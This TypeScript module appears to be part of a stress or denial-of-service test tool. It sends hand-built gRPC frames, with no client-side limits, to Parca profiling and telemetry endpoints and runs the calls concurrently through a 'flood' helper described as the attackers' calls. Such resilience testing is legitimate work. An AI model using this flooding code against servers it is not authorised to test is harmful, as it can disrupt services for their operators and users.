// Makes the attackers' gRPC calls, with frames made by hand, so that no client library limits them.
import { type ClientHttp2Session, type ClientHttp2Stream, connect } from 'node:http2';
import type { Target } from './attack.ts';
import { count, flood } from './client.ts';

const methodPrefix = '/parca.';
export const writeRaw = `${methodPrefix}profilestore.v1alpha1.ProfileStoreService/WriteRaw`;
export const writeArrow = `${methodPrefix}profilestore.v1alpha1.ProfileStoreService/WriteArrow`;
export const writeStream = `${methodPrefix}profilestore.v1alpha1.ProfileStoreService/Write`;
export const shouldUpload = `${methodPrefix}debuginfo.v1alpha1.DebuginfoService/ShouldInitiateUpload`;
export const reportPanic = `${methodPrefix}telemetry.v1alpha1.TelemetryService/ReportPanic`;
export const otlpExport =
  '/opentelemetry.proto.collector.profiles.v1development.ProfilesService/Export';

/** Opens a connection without limits on the client's side. */
export function openSession(target: Target): ClientHttp2Session {
  const session = connect(target.url, { maxSessionMemory: 1_024 });
  return session.on('error', () => undefined);
}

/** Starts a call. */
export function startCall(
  session: ClientHttp2Session,
  path: string,
  headers: Readonly<Record<string, string>> = {},
): ClientHttp2Stream {
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc+proto',
    te: 'trailers',
    ...headers,
  });
  return stream.on('error', () => undefined);
}

/** Puts a message into a gRPC frame. */
export function frame(message: Uint8Array, isCompressed = false): Buffer {
  const head = Buffer.alloc(5);
  head[0] = isCompressed ? 1 : 0;
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

/** Makes a unary call with a frame, and counts its status; resolves when the stream is closed. */
export async function call(session: ClientHttp2Session, path: string, body: Buffer): Promise<void> {
  if (session.destroyed || session.closed) {
    count('no session');
    return;
  }
  const stream = startCall(session, path);
  let status = '';
  stream.on('response', (headers) => (status = String(headers['grpc-status'] ?? '')));
  stream.on('trailers', (headers) => (status = String(headers['grpc-status'] ?? status)));
  stream.resume().end(body);
  await new Promise((resolve) => stream.once('close', resolve));
  count(`grpc ${status || 'cut'}`);
}

/** Returns an act that makes calls, each over its own connection, `atOnce` at a time. */
export function calling(
  target: Target,
  atOnce: number,
  path: string,
  bodyOf: (i: number) => Buffer,
): (signal: AbortSignal) => Promise<void> {
  return async (signal) => {
    const sessions: ClientHttp2Session[] = [];
    await flood(signal, atOnce, async (i) => {
      const at = i % atOnce;
      const known: ClientHttp2Session | undefined = sessions[at];
      const isUsable = known !== undefined && !known.destroyed && !known.closed;
      const session = isUsable ? known : openSession(target);
      sessions[at] = session;
      const end = (): void => session.destroy();
      signal.addEventListener('abort', end, { once: true });
      await call(session, path, bodyOf(i));
      signal.removeEventListener('abort', end);
    });
    for (const session of sessions) session?.destroy();
  };
}
